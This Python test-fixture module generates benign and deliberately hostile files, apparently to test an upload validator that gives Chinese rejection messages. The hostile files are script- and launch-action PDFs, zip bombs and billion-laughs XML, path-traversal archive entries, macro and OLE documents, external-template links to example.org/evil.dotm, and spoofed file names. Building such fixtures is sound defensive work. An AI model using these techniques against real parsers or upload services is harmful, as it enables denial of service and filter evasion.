"""Files made on the spot: sound ones, and hostile ones that only look sound."""

import io
import struct
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from types import MappingProxyType

import pikepdf
import xlsxwriter
from PIL import Image

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def pdf(add=None, password: str = "", owner: str = "") -> bytes:
    """One blank page; `add(pdf)` puts something more in."""
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.add_blank_page()
        if add:
            add(made)
        if password or owner:
            made.save(out, encryption=pikepdf.Encryption(user=password, owner=owner or password))
        else:
            made.save(out)
    return out.getvalue()


def script(made: pikepdf.Pdf) -> None:
    act = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
    made.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=["x", act]))


def script_on_opening(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def script_in_a_stream(made: pikepdf.Pdf) -> None:
    body = made.make_stream(b"app.alert(1)")
    made.pages[0].AA = pikepdf.Dictionary(O=made.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=body)))


def launch(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="calc.exe")


def sends_itself(made: pikepdf.Pdf) -> None:
    made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://example.org/")


def attachment(made: pikepdf.Pdf) -> None:
    made.attachments["a.txt"] = b"hidden"


def attachment_on_a_note(made: pikepdf.Pdf) -> None:
    inside = pikepdf.Dictionary(EF=pikepdf.Dictionary(F=made.make_stream(b"MZ")), F="a.exe", Type=pikepdf.Name.Filespec)
    note = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=[0, 0, 9, 9], FS=inside
    )
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def film(made: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.RichMedia, Rect=[0, 0, 9, 9])
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def living_form(made: pikepdf.Pdf) -> None:
    made.Root.AcroForm = pikepdf.Dictionary(Fields=[], XFA=made.make_stream(b"<xdp/>"))


def a_link(made: pikepdf.Pdf) -> None:
    """What every report of an auditor has: an address to click at."""
    act = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="https://example.org/")
    note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 9, 9], A=act)
    made.pages[0].Annots = pikepdf.Array([made.make_indirect(note)])


def no_pages() -> bytes:
    out = io.BytesIO()
    with pikepdf.new() as made:
        made.save(out)
    return out.getvalue()


def png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(out, "PNG")
    return out.getvalue()


def jpeg(progressive: bool = False, size: int = 8) -> bytes:
    out = io.BytesIO()
    Image.effect_mandelbrot((size, size), (-2, -1, 1, 1), 50).save(out, "JPEG", progressive=progressive)
    return out.getvalue()


def huge_png(side: int = 20000) -> bytes:
    """A few hundred bytes that claim 400 megapixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))

    head = struct.pack("!IIBBBBB", side, side, 8, 0, 0, 0, 0)
    body = zlib.compress(b"\0" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def office(folder: str = "word/", types: str = TYPES, more: Mapping[str, bytes] = MappingProxyType({})) -> bytes:
    """The least that passes for a document; `more` are further parts by their path."""
    return packed([("[Content_Types].xml", types.encode()), (f"{folder}document.xml", b"<x/>"), *more.items()])


def packed(parts: Iterable[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, content in parts:
            archive.writestr(name, content)
    return out.getvalue()


def linked(kind: str, target: str, encoding: str = "utf-8") -> bytes:
    """A list of links with one that leaves the file."""
    return (
        f'<?xml version="1.0" encoding="{encoding}"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    ).encode(encoding)


def workbook() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet().write(0, 0, 1)
    return out.getvalue()


def far_corner() -> bytes:
    """Five kilobytes that claim a cell in the last row of the last column: seventeen thousand million in between."""
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("三年经营数据")
        sheet.write(0, 0, "数据项")
        sheet.write(1048575, 16383, "1")
    return out.getvalue()


def entities() -> bytes:
    """A thousand million laughs in a list of links."""
    lines = "".join(f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(10))
    text = f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a0 "ha">{lines}]><r>&a10;</r>'
    return office(more={"word/_rels/document.xml.rels": text.encode()})


def as_png_text(content: bytes) -> bytes:
    """A picture, something foreign, and then a last chunk that makes it look finished."""
    return png() + content + b"\0\0\0\0IEND\xaeB`\x82"


def bomb(size: int = 150 * 1024 * 1024) -> bytes:
    """Zeros that unpack a thousandfold."""
    return office(more={"word/media.bin": b"\0" * size})


def nested_bomb() -> bytes:
    """Each layer is within its limits; only together they are not."""
    inner = packed([("[Content_Types].xml", TYPES.encode()), ("xl/a.bin", b"\0" * (50 * 1024 * 1024))])
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        archive.writestr("word/document.xml", "<x/>")
        archive.writestr("word/embeddings/table.xlsx", inner)
    return stored.getvalue()


def many_entries(number: int = 2500) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", TYPES)
        for n in range(number):
            archive.writestr(f"word/{n}.xml", "<x/>")
    return out.getvalue()


def lying_bomb() -> bytes:
    """The directory says ten bytes; the stream goes on."""
    content = office(more={"word/media.bin": b"\0" * (250 * 1024 * 1024)})
    true = struct.pack("<I", 250 * 1024 * 1024)
    return content.replace(true, struct.pack("<I", 10))


MACRO_TYPE = TYPES[:-2] + ("><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>")
RELS = "word/_rels/settings.xml.rels"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512
"""By what the person is told: a file must be refused for what is wrong with it, not by luck."""
HOSTILE = {
    "PDF 带有脚本或会动的内容，不能接受": {
        "脚本.pdf": lambda: pdf(script),
        "打开就运行的脚本.pdf": lambda: pdf(script_on_opening),
        "藏在数据流里的脚本.pdf": lambda: pdf(script_in_a_stream),
        "启动程序.pdf": lambda: pdf(launch),
        "往外发送.pdf": lambda: pdf(sends_itself),
        "富媒体.pdf": lambda: pdf(film),
        "动态表单.pdf": lambda: pdf(living_form),
    },
    "PDF 里夹带了附件，不能接受": {
        "夹带.pdf": lambda: pdf(attachment),
        "批注里夹带.pdf": lambda: pdf(attachment_on_a_note),
    },
    "PDF 设有打开密码": {
        "密码.pdf": lambda: pdf(password="secret"),
    },
    "PDF 的结尾缺失，可能没有传完整": {
        "传了一半.pdf": lambda: pdf(owner="secret")[:305],
    },
    "PDF 里没有页面": {
        "没有页面.pdf": no_pages,
    },
    "文件内容不是 PDF": {
        "网页.pdf": lambda: b"<html><script>alert(1)</script></html>",
        "前面是网页.pdf": lambda: b"<html>" + pdf(),
    },
    "文件打不开，可能已损坏，或内容与扩展名不符": {
        "截断.pdf": lambda: pdf()[:60],
        "图片其实是网页.png": lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script/></svg>",
        "截断.png": lambda: png()[:40],
        "截断.jpg": lambda: jpeg()[:-2],
        "其实是PNG.jpg": png,
        "十亿个哈哈.docx": entities,
        "说谎的炸弹.docx": lying_bomb,
        "前面是程序.docx": lambda: b"MZ" + b"\0" * 64 + office(),
        "前面是PDF.docx": lambda: pdf() + office(),
        "旧格式.docx": lambda: OLE,
        "其实是PDF.xlsx": pdf,
    },
    "PDF 里夹带了压缩包，不能接受": {
        "压缩包.pdf": lambda: pdf() + office(),
    },
    "图片尺寸过大": {
        "四亿像素.png": huge_png,
    },
    "图片后面夹带了别的内容，不能接受": {
        "带网页.png": lambda: png() + b"<script>alert(1)</script>",
        "带压缩包.jpg": lambda: jpeg() + office(),
        "带网页又收尾.png": lambda: as_png_text(b"<script>alert(1)</script>"),
        "带PDF又收尾.png": lambda: as_png_text(pdf()),
        "带网页又收尾.jpg": lambda: jpeg() + b"<script>alert(1)</script>\xff\xd9",
        "带PDF又收尾.jpg": lambda: jpeg() + pdf() + b"\xff\xd9",
    },
    "文件带有宏或内嵌程序，不能接受": {
        "宏.docx": lambda: office(more={"word/vbaProject.bin": b"macro"}),
        "改了大小写的宏.docx": lambda: office(more={"word/VBAPROJECT.BIN": b"macro"}),
        "内嵌程序.docx": lambda: office(more={"word/embeddings/a.exe": b"MZ"}),
        "控件.docx": lambda: office(more={"word/activeX/activeX1.xml": b"<ax:ocx/>"}),
        "嵌套压缩包.docx": lambda: office(more={"word/a.zip": b"PK"}),
        "嵌套的宏.docx": lambda: office(more={"word/a.docx": office(more={"word/vbaProject.bin": b"macro"})}),
        "宏表.xlsx": lambda: office(folder="xl/", more={"xl/macrosheets/sheet1.xml": b"<x/>"}),
    },
    "文件带有宏，不能接受": {
        "宏类型.docx": lambda: office(types=MACRO_TYPE),
        "换了编码的宏类型.docx": lambda: packed([("[Content_Types].xml", MACRO_TYPE.encode("utf-16")), PLAIN[1]]),
    },
    "文件带有内嵌对象，不能接受": {
        "改名的内嵌程序.docx": lambda: office(more={"word/media/image1.png": b"MZ\x90\0" + b"\0" * 60}),
        "内嵌对象.docx": lambda: office(more={"word/embeddings/oleObject1.bin": OLE}),
    },
    "文件引用了外部的模板、对象或图片，不能接受": {
        "外部模板.docx": lambda: office(more={RELS: linked("attachedTemplate", "https://example.org/evil.dotm")}),
        "换了编码的外部模板.docx": lambda: office(more={RELS: linked("attachedTemplate", "//example.org/a.dotm", "utf-16")}),
        "外部对象.docx": lambda: office(more={RELS: linked("oleObject", "https://example.org/a.rtf")}),
        "外部图片.docx": lambda: office(more={RELS: linked("image", "//192.0.2.1/share/a.png")}),
    },
    "文件里夹带了压缩包，不能接受": {
        "改名的嵌套压缩包.docx": lambda: office(more={"word/media/image1.png": office()}),
        "套了两层.docx": lambda: office(more={"word/a.docx": office(more={"word/b.docx": office()})}),
    },
    "文件展开后过大，不能接受": {
        "嵌套的炸弹.docx": nested_bomb,
        "炸弹.docx": bomb,
        "太多条目.docx": many_entries,
    },
    "文件内部有重名的部分，不能接受": {
        "重名的部分.docx": lambda: packed([*PLAIN, ("[Content_Types].xml", MACRO_TYPE.encode())]),
    },
    "文件内部的路径不正常，不能接受": {
        "往上爬的路径.docx": lambda: office(more={"word/../../etc/passwd": b"x"}),
        "反斜杠路径.docx": lambda: office(more={"word\\..\\..\\a": b"x"}),
        "根路径.docx": lambda: office(more={"/etc/passwd": b"x"}),
    },
    "文件内容与扩展名不符": {
        "普通压缩包.docx": lambda: office(folder="other/"),
        "表格当文档.docx": lambda: office(folder="xl/"),
    },
    "文件是空的": {
        "空.pdf": lambda: b"",
    },
    "不接受“.exe”的文件": {
        "程序.exe": lambda: b"MZ",
        "双扩展名.pdf.exe": pdf,
        "倒着写的\u202efdp.exe": pdf,
        "空字节.pdf\0.exe": pdf,
    },
    "不接受“.html”的文件": {
        "网页.html": lambda: b"<html></html>",
    },
    "不接受“.svg”的文件": {
        "矢量图.svg": lambda: b"<svg/>",
    },
    "不接受“.docm”的文件": {
        "带宏的文档.docm": office,
    },
    "不接受“.doc”的文件": {
        "旧文档.doc": lambda: OLE,
    },
    "不接受“没有扩展名”的文件": {
        "没有扩展名": pdf,
        "后面有点.pdf.": pdf,
        ".pdf": pdf,
    },
}  # fmt: skip
PLAIN = [("[Content_Types].xml", TYPES.encode()), ("word/document.xml", b"<x/>")]
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
SOUND = {
    "审计报告.pdf": (pdf, "application/pdf"),
    "带链接的审计报告.pdf": (lambda: pdf(a_link), "application/pdf"),
    "只许打印的审计报告.pdf": (lambda: pdf(owner="secret"), "application/pdf"),
    "营业执照.PNG": (png, "image/png"),
    "证书.jpg": (jpeg, "image/jpeg"),
    "分段加载的证书.jpg": (lambda: jpeg(progressive=True, size=300), "image/jpeg"),
    "手机连拍.jpg": (lambda: jpeg() + jpeg(), "image/jpeg"),
    "证书.jpeg": (jpeg, "image/jpeg"),
    "说明.docx": (office, DOCX),
    "带链接的说明.docx": (lambda: office(more={RELS: linked("hyperlink", "https://example.org/")}), DOCX),
    "带图表的说明.docx": (lambda: office(more={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": workbook()}), DOCX),
    "表.xlsx": (workbook, XLSX),
    "引用别的表.xlsx": (
        lambda: office("xl/", more={"xl/externalLinks/_rels/e.rels": linked("externalLinkPath", "a.xlsx")}), XLSX,
    ),
}  # fmt: skip
